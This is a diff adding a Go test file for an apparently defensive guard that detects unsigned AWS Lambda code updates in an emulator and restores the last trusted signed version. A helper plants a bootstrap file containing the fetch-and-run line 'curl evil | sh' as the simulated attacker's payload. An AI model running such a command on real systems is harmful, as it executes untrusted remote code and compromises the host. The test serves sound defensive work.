@@ -1,0 +1,129 @@
+package lambdaguard_test
+
+import (
+	"context"
+	"encoding/json"
+	"testing"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/lambda"
+
+	"github.com/selfguard/selfguard/infra/emulator"
+	"github.com/selfguard/selfguard/infra/emulator/awsproto"
+	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
+	"github.com/selfguard/selfguard/shared/finding"
+	"github.com/selfguard/selfguard/shared/lambdaguard/decide"
+	"github.com/selfguard/selfguard/shared/lambdaguard/snapshot"
+	"github.com/selfguard/selfguard/shared/ledger"
+	"github.com/selfguard/selfguard/shared/pipeline"
+	"github.com/selfguard/selfguard/shared/rules"
+)
+
+// releaseBed is a function released as signed version 2, its code signing
+// config weakened to Warn so that an unsigned update lands, and a guard
+// with a release memory.
+func releaseBed(t *testing.T) (*bed, *ledger.Memory) {
+	t.Helper()
+	w := world()
+	w.Functions = append(w.Functions, lambdaemu.FunctionWorld{Name: "rel", CodeWorld: signedFiles("v2"), CodeSigningConfig: cscID,
+		Versions: []lambdaemu.VersionWorld{{CodeWorld: signedFiles("v1")}, {CodeWorld: signedFiles("v2")}}})
+	b := newBedWith(t, w)
+	b.weakenCSC(t)
+	mem := &ledger.Memory{}
+	b.guard.Releases = mem
+	return b, mem
+}
+
+func (b *bed) deployUnsigned(t *testing.T, fn string) {
+	t.Helper()
+	if _, err := b.as(emulator.ActorAttacker).UpdateFunctionCode(context.Background(), &lambda.UpdateFunctionCodeInput{
+		FunctionName: aws.String(fn), ZipFile: lambdaemu.ZipOf(map[string]string{"bootstrap": "curl evil | sh"})}); err != nil {
+		t.Fatal(err)
+	}
+	b.settle(t, fn)
+}
+
+func (b *bed) settle(t *testing.T, fn string) {
+	t.Helper()
+	w := lambda.NewFunctionUpdatedV2Waiter(b.as(emulator.ActorAdmin))
+	if err := w.Wait(context.Background(), &lambda.GetFunctionInput{FunctionName: aws.String(fn)}, 10e9); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func callsByOp(stats []awsproto.CallStat) map[string]int64 {
+	out := map[string]int64{}
+	for _, s := range stats {
+		out[s.Operation] += s.Calls
+	}
+	return out
+}
+
+// TestARememberedReleaseDecidesAnUnsignedUpdateInTwoCalls: once the guard
+// saw version 2 published trusted, an unsigned update is decided with
+// GetFunction and GetFunctionCodeSigningConfig alone (no listing of every
+// version), and the code of version 2 is restored after reading it again.
+func TestARememberedReleaseDecidesAnUnsignedUpdateInTwoCalls(t *testing.T) {
+	b, mem := releaseBed(t)
+	ctx := context.Background()
+	// The publish event of version 2: nothing to do, the release is learned.
+	if d, err := b.guard.Evaluate(ctx, pipeline.Subject{Type: finding.ResourceFunction, Name: "rel", Qualifier: "2"}); err != nil || len(d.Findings) > 0 {
+		t.Fatalf("publish of signed version 2: %v, %+v", err, d.Findings)
+	}
+	if r, ok, _ := mem.TrustedRelease(ctx, "rel"); !ok || r.Version != 2 {
+		t.Fatalf("release remembered %+v %v, want version 2", r, ok)
+	}
+
+	b.deployUnsigned(t, "rel")
+	b.srv.Env.Calls.Reset()
+	d, err := b.guard.Evaluate(ctx, fn("rel"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	calls := callsByOp(b.srv.Env.Calls.Stats())
+	if got := totalCalls(b.srv.Env.Calls.Stats()); got != 2 || calls["GetFunction"] != 1 || calls["GetFunctionCodeSigningConfig"] != 1 {
+		t.Errorf("decided in %d calls %v, want GetFunction and GetFunctionCodeSigningConfig", got, calls)
+	}
+	if len(d.Actions) != 1 || d.Actions[0].Kind != rules.ActionRestoreCode || d.Actions[0].Params[decide.ParamVersion] != "2" ||
+		d.Actions[0].Params[decide.ParamRemembered] == "" {
+		t.Fatalf("actions %+v, want a restore of the remembered version 2", d.Actions)
+	}
+	o := b.guard.Act(ctx, fn("rel"), d.Actions[0])
+	if o.Status != pipeline.OutcomeDone {
+		t.Fatalf("restore: %s %v", o.Status, o.Err)
+	}
+	if got, want := aws.ToString(b.latest(t, "rel").Configuration.CodeSha256), aws.ToString(b.version(t, "rel", "2").CodeSha256); got != want {
+		t.Errorf("$LATEST holds %s, want version 2's %s", got, want)
+	}
+}
+
+// TestAStaleRememberedReleaseIsForgottenAndTheVersionsListed: a remembered
+// release that no longer holds the code remembered of it (here: a memory
+// of other code) is never restored from; the guard forgets it, lists the
+// versions, restores the newest trusted one and remembers that.
+func TestAStaleRememberedReleaseIsForgottenAndTheVersionsListed(t *testing.T) {
+	b, mem := releaseBed(t)
+	ctx := context.Background()
+	wrong, _ := json.Marshal(snapshot.Code{Version: "2", CodeSha256: "not-the-code-of-version-2", PackageType: snapshot.PackageZip,
+		SigningProfileVersionARN: aws.ToString(b.version(t, "rel", "2").SigningProfileVersionArn)})
+	if err := mem.RememberRelease(ctx, ledger.Release{Function: "rel", Version: 2, Code: wrong}); err != nil {
+		t.Fatal(err)
+	}
+	b.deployUnsigned(t, "rel")
+	d, outs := b.evaluateAndAct(t, fn("rel"))
+	if len(outs) != 1 || outs[0].Status != pipeline.OutcomeDone {
+		t.Fatalf("outcomes %+v of %v", outs, kinds(d))
+	}
+	want := aws.ToString(b.version(t, "rel", "2").CodeSha256)
+	if got := aws.ToString(b.latest(t, "rel").Configuration.CodeSha256); got != want {
+		t.Errorf("$LATEST holds %s, want version 2's %s", got, want)
+	}
+	r, ok, _ := mem.TrustedRelease(ctx, "rel")
+	var c snapshot.Code
+	if ok {
+		_ = json.Unmarshal(r.Code, &c)
+	}
+	if !ok || r.Version != 2 || c.CodeSha256 != want {
+		t.Errorf("remembered %v version %d sha %s, want version 2 with its real code %s", ok, r.Version, c.CodeSha256, want)
+	}
+}
